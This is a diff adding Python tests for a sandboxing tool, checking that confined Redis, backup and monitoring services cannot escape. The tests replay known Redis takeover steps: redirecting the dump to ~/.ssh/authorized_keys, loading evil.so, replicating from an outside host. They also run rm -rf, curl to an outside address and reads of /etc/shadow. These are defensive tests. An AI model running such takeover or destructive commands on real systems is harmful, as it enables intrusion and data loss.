@@ -4,6 +4,7 @@ A second profile names the port of the test, its folder, and, where root starts 
 """
 import glob
 import http.client
+import json
 import os
 import shutil
 import signal
@@ -187,6 +188,105 @@ def test_sshd(sg):
         assert "Read-only file system" in done.stderr or "Permission denied" in done.stderr
         status, text = service.stop()
     assert status in (0, 255, 143) and "Accepted publickey" in text, (status, text)
+
+
+class Redis:
+    """A client that speaks the protocol's lines."""
+
+    def __init__(self, port):
+        self.file = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE).makefile("rwb")
+
+    def __call__(self, *words):
+        self.file.write(b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w.encode()) for w in words))
+        self.file.flush()
+        line = self.file.readline().decode().rstrip()
+        return self.file.read(int(line[1:]) + 2).decode().rstrip() if line[0] == "$" and line != "$-1" else line
+
+
+def refusals(log):
+    with open(log, encoding="utf-8") as f:
+        return [record for record in map(json.loads, filter(lambda line: line.endswith("\n"), f)) if record["kind"] == "refusal"]
+
+
+def test_redis(sg):
+    program = need("redis-server")
+    service = Service(sg, "redis", '[Networking]\nListen = ["tcp:127.0.0.1:PORT"]\n')
+    home = os.path.join(sg.home, ".ssh")
+    os.mkdir(home)
+    os.chown(home, service.uid, service.uid) if os.getuid() == 0 else None
+    with service(program, "--bind", "127.0.0.1", "--port", str(service.port), "--enable-protected-configs", "yes", "--enable-module-command", "yes",
+                 "--save", "", "--appendonly", "yes"):
+        ask = Redis(service.port)
+        assert ask("SET", "name", "value") == "+OK" and ask("GET", "name") == "value"
+        assert ask("SAVE") == "+OK" and ask("BGREWRITEAOF").startswith("+Background")
+        # The ways by which servers of Redis were taken over.
+        assert "No such file" in ask("CONFIG", "SET", "dir", home)
+        assert "Error loading the extension" in ask("MODULE", "LOAD", "/var/tmp/evil.so")
+        assert ask("CONFIG", "SET", "dbfilename", "authorized_keys") == "+OK" and ask("SAVE") == "+OK"
+        ask("REPLICAOF", "10.0.0.1", "6379")
+        deadline = time.monotonic() + PATIENCE
+        while not any(r["object"].startswith("tcp:10.0.0.1") for r in refusals(service.log)) and \
+                time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert time.monotonic() < deadline, "it asks a stranger for his data, and is refused"
+        status, text = service.stop()
+    assert status == 0 and "ready to exit" in text, text
+    assert os.listdir(home) == [] and {"dump.rdb", "authorized_keys", "appendonlydir"} <= set(os.listdir(sg.cwd))
+
+
+def test_backup(sg):
+    old, kept = os.path.join(sg.cwd, "old"), os.path.join(sg.cwd, "old", "monday.tar")
+    os.mkdir(old)
+    sg.write("old/monday.tar", "monday\n")
+    for path in (sg.cwd, old):
+        os.chown(path, sg.uid, sg.uid) if os.getuid() == 0 else None
+    profile = os.path.join(ROOT, "gallery", "backup.toml")
+    done = sg.run(profile, need("tar"), "-C", "/", "-cf", "today.tar", "etc/hostname", "usr/share/doc/tar")
+    assert done.status == 0, done.stderr
+    names = subprocess.run(["tar", "-tf", os.path.join(sg.cwd, "today.tar")], capture_output=True, text=True, check=True).stdout
+    assert "etc/hostname\n" in names and "usr/share/doc/tar/" in names
+    done = sg.shell(profile, "rm -rf old; echo x >>old/monday.tar; mv old older; echo x >>/etc/hostname; cp today.tar /srv/x; curl -m 5 -s http://10.0.0.1/; echo $?")
+    assert done.stdout == "7\n", done.stdout + done.stderr
+    with open(kept, encoding="ascii") as f:
+        assert f.read() == "monday\n"
+    assert not os.path.exists("/srv/x")
+
+
+AGENT = """
+import glob, http.server, sys, threading
+FILES = ["/proc/stat", "/proc/meminfo", "/proc/diskstats", "/proc/interrupts", "/proc/swaps", "/proc/net/dev", "/sys/class/net/lo/mtu", "/etc/os-release"]
+FILES += glob.glob("/proc/pressure/*")
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        lines = []
+        for name in FILES + ["/etc/shadow", "/proc/kcore"]:
+            try:
+                with open(name, "rb") as file:
+                    lines.append("%s %d" % (name, len(file.read(100)) > 0))
+            except OSError:
+                lines.append(name + " refused")
+        body = "\\n".join(lines).encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
+"""
+
+
+def test_monitoring_agent(sg):
+    """A program that reads what such an agent reads, in the place of one that would listen on the host as soon as it is installed."""
+    service = Service(sg, "monitoring-agent", '[Networking]\nListen = ["tcp:127.0.0.1:PORT"]\n'
+                                              '[Filesystem]\nReadOnly = ["/usr/lib/python3*/**", "/usr/share/**", "${CWD}/**"]\nExec = ["/usr/bin/python3*"]\n')
+    service.write("agent.py", AGENT)
+    with service("/usr/bin/python3", "agent.py", str(service.port)):
+        status, text = get(service.port, "/metrics")
+        told = dict(line.split(" ") for line in text.splitlines())
+        service.stop()
+    assert status == 200 and told.pop("/etc/shadow") == told.pop("/proc/kcore") == "refused", text
+    assert len(told) >= 8 and set(told.values()) == {"1"}, text
 
 
 SERVICE = """
